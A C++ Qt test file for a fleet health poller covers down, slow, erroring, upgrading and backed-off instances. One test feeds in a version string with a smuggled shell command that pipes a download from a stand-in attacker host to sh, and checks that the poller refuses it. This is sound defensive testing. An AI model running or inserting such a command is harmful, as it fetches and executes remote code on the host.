#include "app/discovery/HealthPoller.h"
#include "models/Clock.h"
#include "tests/support/FleetSim.h"
#include "tests/support/FreePort.h"

#include <QSignalSpy>
#include <QTest>

using namespace lockstep;
using namespace std::chrono_literals;
using lockstep::test::FleetSim;

// HealthPoller against a real lockstep-fleetsim: what the operator sees in the fleet table.
class TestHealthPoller : public QObject
{
    Q_OBJECT

private:
    FleetSim m_sim;

    QList<HealthPoller::Target> targets(int count) const
    {
        QList<HealthPoller::Target> list;
        for (int n = 1; n <= count; ++n) {
            const QString name = QStringLiteral("node-%1").arg(n, 4, 10, QLatin1Char('0'));
            list.append({name, m_sim.instanceUrl(name)});
        }
        return list;
    }

    // Runs one cycle and returns what it reported, by instance name.
    static QHash<QString, InstanceStatus> cycle(HealthPoller &poller, PollCycleStats *stats = nullptr)
    {
        QHash<QString, InstanceStatus> seen;
        QMetaObject::Connection c = QObject::connect(&poller, &HealthPoller::instanceUpdated, &poller,
                                                     [&seen](const InstanceStatus &s) { seen.insert(s.name, s); });
        QSignalSpy finished(&poller, &HealthPoller::pollCycleFinished);
        if (!poller.pollOnce() || !finished.wait(20000))
            qWarning("poll cycle did not finish");
        QObject::disconnect(c);
        if (stats && !finished.isEmpty())
            *stats = finished.first().first().value<PollCycleStats>();
        return seen;
    }

private slots:
    void initTestCase()
    {
        const QString failure = m_sim.start({QStringLiteral("--instances"), QStringLiteral("6"),
                                             QStringLiteral("--upgrade-ms"), QStringLiteral("300")});
        if (!failure.isEmpty())
            QFAIL(qPrintable(failure));
    }

    void cleanup()
    {
        QVERIFY(m_sim.inject(QStringLiteral("*"), QStringLiteral("none")));
        Clock::setInstance(nullptr);
    }

    void healthyInstancesReportVersionAndSchema()
    {
        HealthPoller poller;
        poller.setTargets(targets(6));
        PollCycleStats stats;
        const auto seen = cycle(poller, &stats);
        QCOMPARE(seen.size(), 6);
        for (const InstanceStatus &s : seen) {
            QCOMPARE(s.health, Health::Healthy);
            QCOMPARE(s.version, QStringLiteral("1.4.2"));
            QCOMPARE(s.schemaVersion, 7);
            QVERIFY2(s.error.isEmpty(), qPrintable(s.error));
            QVERIFY(s.lastSeen.isValid());
        }
        QCOMPARE(stats.polled, 6);
        QCOMPARE(stats.healthy, 6);
        QCOMPARE(stats.down, 0);
    }

    void downInstanceIsReportedDownAndOthersStayHealthy()
    {
        QVERIFY(m_sim.inject(QStringLiteral("node-0002"), QStringLiteral("down")));
        HealthPoller poller;
        poller.setTargets(targets(3));
        PollCycleStats stats;
        const auto seen = cycle(poller, &stats);
        QCOMPARE(seen.value(QStringLiteral("node-0002")).health, Health::Down);
        QVERIFY2(seen.value(QStringLiteral("node-0002")).error.contains(QLatin1String("connection closed")),
                 qPrintable(seen.value(QStringLiteral("node-0002")).error));
        QVERIFY(seen.value(QStringLiteral("node-0002")).version.isEmpty());
        QCOMPARE(seen.value(QStringLiteral("node-0001")).health, Health::Healthy);
        QCOMPARE(seen.value(QStringLiteral("node-0003")).health, Health::Healthy);
        QCOMPARE(stats.down, 1);
    }

    void nothingListeningIsConnectionRefused()
    {
        HealthPoller poller;
        const QUrl dead(QStringLiteral("http://127.0.0.1:%1/i/ghost").arg(lockstep::test::freePort()));
        poller.setTargets({{QStringLiteral("ghost"), dead}});
        const auto seen = cycle(poller);
        QCOMPARE(seen.value(QStringLiteral("ghost")).health, Health::Down);
        QVERIFY2(seen.value(QStringLiteral("ghost")).error.startsWith(QLatin1String("connection refused")),
                 qPrintable(seen.value(QStringLiteral("ghost")).error));
    }

    void slowInstanceTimesOutWithoutHoldingUpTheOthers()
    {
        QVERIFY(m_sim.inject(QStringLiteral("node-0001"), QStringLiteral("slow"), 4000));
        HealthPoller poller;
        poller.setRequestTimeout(500ms);
        poller.setTargets(targets(4));
        const auto seen = cycle(poller);
        const InstanceStatus slow = seen.value(QStringLiteral("node-0001"));
        QCOMPARE(slow.health, Health::Down);
        QVERIFY2(slow.error.startsWith(QLatin1String("timeout after 500 ms")), qPrintable(slow.error));
        for (const QString &name : {QStringLiteral("node-0002"), QStringLiteral("node-0003"), QStringLiteral("node-0004")})
            QCOMPARE(seen.value(name).health, Health::Healthy);
    }

    void http500IsUnhealthyWithTheStatusCode()
    {
        QVERIFY(m_sim.inject(QStringLiteral("node-0003"), QStringLiteral("error500")));
        HealthPoller poller;
        poller.setTargets(targets(3));
        PollCycleStats stats;
        const auto seen = cycle(poller, &stats);
        const InstanceStatus broken = seen.value(QStringLiteral("node-0003"));
        QCOMPARE(broken.health, Health::Unhealthy);
        QVERIFY2(broken.error.startsWith(QLatin1String("HTTP 500")), qPrintable(broken.error));
        QVERIFY(broken.lastSeen.isValid());   // it answered, so it is not backed off
        QCOMPARE(broken.consecutiveFailures, 0);
        QCOMPARE(stats.unhealthy, 1);
    }

    void maintenanceModeIsHealthyAndFlagged()
    {
        QCOMPARE(m_sim.post(QStringLiteral("/api/instances/node-0005/maintenance"),
                            {{QStringLiteral("enabled"), true}}).status, 200);
        HealthPoller poller;
        poller.setTargets({{QStringLiteral("node-0005"), m_sim.instanceUrl(QStringLiteral("node-0005"))}});
        const auto seen = cycle(poller);
        QCOMPARE(seen.value(QStringLiteral("node-0005")).health, Health::Healthy);
        QVERIFY(seen.value(QStringLiteral("node-0005")).maintenance);
        QCOMPARE(m_sim.post(QStringLiteral("/api/instances/node-0005/maintenance"),
                            {{QStringLiteral("enabled"), false}}).status, 200);
    }

    void upgradeShowsRestartThenTheNewVersion()
    {
        QCOMPARE(m_sim.post(QStringLiteral("/api/instances/node-0006/upgrade"),
                            {{QStringLiteral("version"), QStringLiteral("1.5.0")}}).status, 202);
        HealthPoller poller;
        poller.setTargets({{QStringLiteral("node-0006"), m_sim.instanceUrl(QStringLiteral("node-0006"))}});
        InstanceStatus during = cycle(poller).value(QStringLiteral("node-0006"));
        // The restart takes 300 ms: the first poll almost always lands in it, but the test must
        // not depend on that, so only a poll that did land there is checked.
        if (during.version.isEmpty()) {
            QCOMPARE(during.health, Health::Unhealthy);
            QVERIFY2(during.error.contains(QLatin1String("restarting")), qPrintable(during.error));
        }
        QTRY_COMPARE_WITH_TIMEOUT(cycle(poller).value(QStringLiteral("node-0006")).version, QStringLiteral("1.5.0"), 10000);
        const InstanceStatus after = cycle(poller).value(QStringLiteral("node-0006"));
        QCOMPARE(after.health, Health::Healthy);
        QCOMPARE(after.schemaVersion, 7);   // the schema only moves when migrations run
    }

    void hostileVersionIsRefusedNotReported()
    {
        const QString hostile = QStringLiteral("1.4.2; curl evil.example | sh");
        QVERIFY(m_sim.setHostileVersion(QStringLiteral("node-0004"), hostile));
        HealthPoller poller;
        poller.setTargets({{QStringLiteral("node-0004"), m_sim.instanceUrl(QStringLiteral("node-0004"))}});
        PollCycleStats stats;
        const InstanceStatus s = cycle(poller, &stats).value(QStringLiteral("node-0004"));
        QCOMPARE(s.health, Health::Healthy);
        QVERIFY(s.version.isEmpty());
        QVERIFY2(s.error.startsWith(QLatin1String("refused version")), qPrintable(s.error));
        QCOMPARE(stats.versionErrors, 1);
        QVERIFY(m_sim.setHostileVersion(QStringLiteral("node-0004"), QString()));
    }

    void oversizedAnswerIsCutOff()
    {
        // A hostile or broken instance cannot make the console read megabytes per poll.
        QVERIFY(m_sim.setHostileVersion(QStringLiteral("node-0003"), QString(200000, QLatin1Char('1'))));
        HealthPoller poller;
        poller.setTargets({{QStringLiteral("node-0003"), m_sim.instanceUrl(QStringLiteral("node-0003"))},
                           {QStringLiteral("node-0003"), m_sim.instanceUrl(QStringLiteral("node-0003"))}});
        PollCycleStats stats;
        const InstanceStatus s = cycle(poller, &stats).value(QStringLiteral("node-0003"));
        QVERIFY(s.version.isEmpty());
        QVERIFY2(s.error.contains(QLatin1String("response larger than 64 KiB")), qPrintable(s.error));
        QCOMPARE(s.health, Health::Healthy);
        QCOMPARE(stats.polled, 1);   // listed twice, asked once
        QVERIFY(m_sim.setHostileVersion(QStringLiteral("node-0003"), QString()));
    }

    void deadHostIsBackedOffExponentially()
    {
        ManualClock clock(QDateTime(QDate(2026, 11, 21), QTime(9, 0), Qt::UTC));
        Clock::setInstance(&clock);
        HealthPoller poller;
        poller.setInterval(10s);
        poller.setBackoff(10s, 40s);
        const QUrl dead(QStringLiteral("http://127.0.0.1:%1/i/ghost").arg(lockstep::test::freePort()));
        poller.setTargets({{QStringLiteral("ghost"), dead},
                           {QStringLiteral("node-0001"), m_sim.instanceUrl(QStringLiteral("node-0001"))}});

        PollCycleStats stats;
        InstanceStatus ghost = cycle(poller, &stats).value(QStringLiteral("ghost"));
        QCOMPARE(ghost.consecutiveFailures, 1);
        QCOMPARE(ghost.nextPoll, clock.now().addSecs(10));

        // Within the back-off the dead host is skipped; the live one is still polled.
        auto seen = cycle(poller, &stats);
        QVERIFY(!seen.contains(QStringLiteral("ghost")));
        QVERIFY(seen.contains(QStringLiteral("node-0001")));
        QCOMPARE(stats.skipped, 1);

        clock.advance(10000);
        ghost = cycle(poller, &stats).value(QStringLiteral("ghost"));
        QCOMPARE(ghost.consecutiveFailures, 2);
        QCOMPARE(ghost.nextPoll, clock.now().addSecs(20));

        clock.advance(20000);
        cycle(poller);
        clock.advance(40000);
        ghost = cycle(poller).value(QStringLiteral("ghost"));
        QCOMPARE(ghost.consecutiveFailures, 4);
        QCOMPARE(ghost.nextPoll, clock.now().addSecs(40));   // capped
    }

    void periodicPollingRepeatsAndStops()
    {
        HealthPoller poller;
        poller.setInterval(50ms);
        poller.setTargets(targets(2));
        QSignalSpy cycles(&poller, &HealthPoller::pollCycleFinished);
        poller.start();
        QTRY_VERIFY_WITH_TIMEOUT(cycles.size() >= 3, 10000);
        poller.stop();
        QVERIFY(!poller.isPolling());
        const qsizetype after = cycles.size();
        QTest::qWait(200);
        QCOMPARE(cycles.size(), after);
    }
};

QTEST_GUILESS_MAIN(TestHealthPoller)
#include "tst_healthpoller.moc"
